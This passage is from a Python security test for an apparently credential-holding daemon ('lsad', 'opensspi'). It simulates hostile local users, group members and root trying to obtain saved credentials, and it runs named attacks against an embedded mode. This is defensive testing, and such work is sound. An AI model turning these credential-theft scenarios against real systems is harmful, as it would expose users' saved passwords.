        code, out, err = users[0].run("logon", f"rdp://127.0.0.1:{server.port}", "--target", TARGET, "--saved", "--json", "--timeout", "20")
        lab.check("it is delegated to a server elsewhere", code == 0 and json.loads(out)["signed_in"], f"{code} {out} {err}")
        as_its_user(lab, Foe(lab, daemon, users[0]))
        as_root(lab, Foe(lab, daemon, users[1]))
        members = [Foe(lab, daemon, users[0], g.gr_gid) for g in groups]
        for member, is_trusted in zip(members, (False, True)):
            as_member(lab, member, is_trusted)
        owner = Foe(lab, daemon, users[0])
        by_sessions(lab, owner, (("another program of the user", owner, NOT_OWNER), ("a member", members[0], NOT_OWNER),
                                 ("a trusted one", members[1], BY_POLICY), ("root", Foe(lab, daemon, users[1]), BY_POLICY)))
        control = Foe(lab, daemon, users[1])
        for name in ("both_ends", "middle", "bare", "lm20"):
            said = control.attacks(name, OPENSSPI_LSA="embedded", OPENSSPI_HOME=embedded_home(lab, users[1], policy))
            lab.check(f"embedded, where nothing is promised, {name} does get it", said["got"] is True, json.dumps(said))
        lab.check("lsad lives", daemon.alive(), lab.log("lsad.log"))
    except Exception as e:  # programs must not be left running
        lab.check("the test itself", False, f"{e!r} in line {e.__traceback__.tb_next.tb_lineno}")
    return lab.finish()


def embedded_home(lab, user, policy):
    """A home of its own, with the same account and the same password saved."""
    home = lab.directory("embedded")
    if not os.path.exists(os.path.join(home, "etc")):
        os.makedirs(os.path.join(home, "etc"))
        with open(os.path.join(home, "etc", "opensspi.conf"), "w", encoding="utf-8") as f:
            f.write(policy)
        env = dict(user.env, OPENSSPI_HOME=home, OPENSSPI_LSA="embedded")
        for words in (["account", "add", "LAB\\carol"], ["cred", "add", TARGET, "--user", "LAB\\carol"]):
            subprocess.run([user.program, *words, "--password-fd", "0"], input=SECRET.encode() + b"\n", env=env, capture_output=True, check=False)
    return home


if __name__ == "__main__":
    sys.exit(attacker(sys.argv[2]) if sys.argv[1:2] == ["--attack"] else main())
